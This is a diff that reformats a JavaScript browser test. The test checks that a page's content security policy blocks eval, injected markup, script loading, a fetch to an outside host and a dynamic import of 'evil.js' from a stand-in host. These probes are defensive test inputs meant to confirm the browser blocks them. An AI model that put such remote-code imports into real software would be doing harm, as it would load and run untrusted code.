@@ -98,8 +98,14 @@ test("no inline script runs, no text becomes markup or code, and nothing talks t
       const code = nameOf(() => new Function("return 1")());
       const markup = nameOf(() => (document.createElement("p").innerHTML = "<b>"));
       const address = nameOf(() => (document.createElement("script").src = "boot.js"));
-      const elsewhere = await fetch("https://elsewhere.example/").then(() => "fetched", (error) => error.name);
-      const from = await import("https://elsewhere.example/evil.js").then(() => "ran", (error) => error.name);
+      const elsewhere = await fetch("https://elsewhere.example/").then(
+        () => "fetched",
+        (error) => error.name,
+      );
+      const from = await import("https://elsewhere.example/evil.js").then(
+        () => "ran",
+        (error) => error.name,
+      );
       done({ code, markup, address, elsewhere, from });
     });
   });
@@ -107,6 +113,7 @@ test("no inline script runs, no text becomes markup or code, and nothing talks t
   assert.deepEqual(outcome, { code: "EvalError", markup: text, address: text, elsewhere: "TypeError", from: "TypeError" });
   assert.equal(await session.title(), "NetworkPolicy Playground");
   const violated = (await reader.faults()).join("\n");
-  for (const rule of ["script-src-elem", "connect-src", ...(knowsTrustedTypes ? ["require-trusted-types-for"] : [])]) assert.match(violated, new RegExp(`violates ${rule}`));
+  for (const rule of ["script-src-elem", "connect-src", ...(knowsTrustedTypes ? ["require-trusted-types-for"] : [])])
+    assert.match(violated, new RegExp(`violates ${rule}`));
   await reader.shows(EIGHT);
 });
